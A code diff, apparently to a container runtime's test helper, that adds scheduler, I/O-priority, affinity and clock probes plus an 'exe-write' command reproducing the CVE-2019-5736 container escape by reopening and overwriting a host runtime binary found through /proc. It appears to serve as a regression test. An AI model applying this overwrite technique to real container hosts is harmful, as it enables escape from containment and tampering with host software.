@@ -20,7 +20,12 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sched.h>
+#include <stdint.h>
+#include <sys/personality.h>
 #include <sys/resource.h>
+#include <sys/syscall.h>
+#include <sys/utsname.h>
 #include <sys/stat.h>
 #include <sys/sysmacros.h>
 #include <sys/types.h>
@@ -457,6 +462,153 @@ cmd_signal_wait (int argc UNUSED, char **argv UNUSED)
   return 0;
 }
 
+/* sched: "POLICY NICE PRIORITY" from sched_getattr (raw syscall: static
+ * glibc has no wrapper); POLICY as the runtime-spec names it. */
+static int
+cmd_sched (int argc UNUSED, char **argv UNUSED)
+{
+  static const char *const names[]
+    = { "SCHED_OTHER", "SCHED_FIFO", "SCHED_RR", "SCHED_BATCH", "SCHED_ISO", "SCHED_IDLE", "SCHED_DEADLINE" };
+  struct
+  {
+    uint32_t size, policy;
+    uint64_t flags;
+    int32_t nice;
+    uint32_t priority;
+    uint64_t runtime, deadline, period;
+  } a;
+
+  memset (&a, 0, sizeof a);
+  if (syscall (SYS_sched_getattr, 0, &a, sizeof a, 0) < 0)
+    return fail ("sched_getattr", "self");
+  printf ("%s %d %u\n", a.policy < 7 ? names[a.policy] : "?", (int)a.nice, (unsigned)a.priority);
+  return 0;
+}
+
+/* ioprio: "CLASS PRIORITY" of ioprio_get(IOPRIO_WHO_PROCESS, self). */
+static int
+cmd_ioprio (int argc UNUSED, char **argv UNUSED)
+{
+  static const char *const names[]
+    = { "IOPRIO_CLASS_NONE", "IOPRIO_CLASS_RT", "IOPRIO_CLASS_BE", "IOPRIO_CLASS_IDLE" };
+  long v = syscall (SYS_ioprio_get, 1, 0);
+
+  if (v < 0)
+    return fail ("ioprio_get", "self");
+  printf ("%s %ld\n", (v >> 13) < 4 ? names[v >> 13] : "?", v & 0xff);
+  return 0;
+}
+
+/* personality: the persona in hex, then the uname machine. */
+static int
+cmd_personality (int argc UNUSED, char **argv UNUSED)
+{
+  struct utsname u;
+  int p = personality (0xffffffff);
+
+  if (p < 0 || uname (&u) < 0)
+    return fail ("personality", "self");
+  printf ("0x%x %s\n", (unsigned)p, u.machine);
+  return 0;
+}
+
+/* affinity: the allowed cpus as a list, "0,2,3". */
+static int
+cmd_affinity (int argc UNUSED, char **argv UNUSED)
+{
+  cpu_set_t set;
+  const char *sep = "";
+
+  if (sched_getaffinity (0, sizeof set, &set) < 0)
+    return fail ("sched_getaffinity", "self");
+  for (int i = 0; i < CPU_SETSIZE; i++)
+    if (CPU_ISSET (i, &set))
+      {
+        printf ("%s%d", sep, i);
+        sep = ",";
+      }
+  printf ("\n");
+  return 0;
+}
+
+/* clock: "monotonic SECS" and "boottime SECS" (whole seconds). */
+static int
+cmd_clock (int argc UNUSED, char **argv UNUSED)
+{
+  struct timespec m, b;
+
+  if (clock_gettime (CLOCK_MONOTONIC, &m) < 0 || clock_gettime (CLOCK_BOOTTIME, &b) < 0)
+    return fail ("clock_gettime", "");
+  printf ("monotonic %lld\nboottime %lld\n", (long long)m.tv_sec, (long long)b.tv_sec);
+  return 0;
+}
+
+/* exe-write SECS: the CVE-2019-5736 attacker.  For up to SECS seconds, look
+ * for another process whose /proc/PID/exe names berth and hold that binary
+ * with an O_PATH descriptor; then keep reopening it for writing (ETXTBSY
+ * while it still runs) and write into it.  Prints "caught PID TARGET", then
+ * "wrote" or "refused: REASON".  Exit 0 when it caught one, 1 otherwise. */
+static int
+exe_grab (char *target, size_t size)
+{
+  DIR *d = opendir ("/proc");
+  struct dirent *de;
+  int fd = -1;
+
+  while (d && fd < 0 && (de = readdir (d)) != NULL)
+    {
+      char path[300];
+      ssize_t n;
+      if (atoi (de->d_name) <= 0 || atoi (de->d_name) == getpid ())
+        continue;
+      snprintf (path, sizeof path, "/proc/%s/exe", de->d_name);
+      n = readlink (path, target, size - 1);
+      if (n <= 0)
+        continue;
+      target[n] = '\0';
+      if (strstr (target, "berth") == NULL)
+        continue;
+      fd = open (path, O_PATH | O_CLOEXEC);
+      if (fd >= 0)
+        printf ("caught %s %s\n", de->d_name, target);
+    }
+  if (d)
+    closedir (d);
+  return fd;
+}
+
+static int
+cmd_exe_write (int argc, char **argv)
+{
+  static const char payload[] = "#!/bin/sh\necho overwritten by the container\n";
+  char target[PATH_MAX], self[64];
+  time_t end = time (NULL) + (argc > 1 ? atoi (argv[1]) : 10);
+  int fd = -1, w = -1;
+
+  printf ("ready\n");
+  fflush (stdout);
+  while (fd < 0 && time (NULL) < end)
+    fd = exe_grab (target, sizeof target);
+  if (fd < 0)
+    return fail ("find a berth process", "/proc");
+  snprintf (self, sizeof self, "/proc/self/fd/%d", fd);
+  for (end = time (NULL) + 3; w < 0 && time (NULL) < end;)
+    {
+      w = open (self, O_WRONLY | O_CLOEXEC);
+      if (w < 0 && errno != ETXTBSY)
+        break;
+      if (w < 0)
+        usleep (1000);
+    }
+  if (w < 0)
+    printf ("refused: open: %s\n", strerror (errno));
+  else if (pwrite (w, payload, sizeof payload - 1, 0) < 0)
+    printf ("refused: write: %s\n", strerror (errno));
+  else
+    printf ("wrote\n");
+  return 0;
+}
+
 static int cmd_help (int argc, char **argv);
 
 static const struct
@@ -484,6 +636,12 @@ static const struct
   { "sleep", cmd_sleep, "SECS: sleep" },
   { "signal-wait", cmd_signal_wait, "print ready, wait for a signal, print its name" },
   { "cat", cmd_cat, "PATH: copy a file to stdout" },
+  { "sched", cmd_sched, "POLICY NICE PRIORITY of the scheduler" },
+  { "ioprio", cmd_ioprio, "CLASS PRIORITY of the I/O scheduler" },
+  { "personality", cmd_personality, "PERSONA(hex) MACHINE" },
+  { "affinity", cmd_affinity, "allowed cpus, comma-separated" },
+  { "clock", cmd_clock, "monotonic SECS, boottime SECS" },
+  { "exe-write", cmd_exe_write, "SECS: try to overwrite a berth binary seen in /proc (CVE-2019-5736)" },
   { "help", cmd_help, "this list" },
 };
 
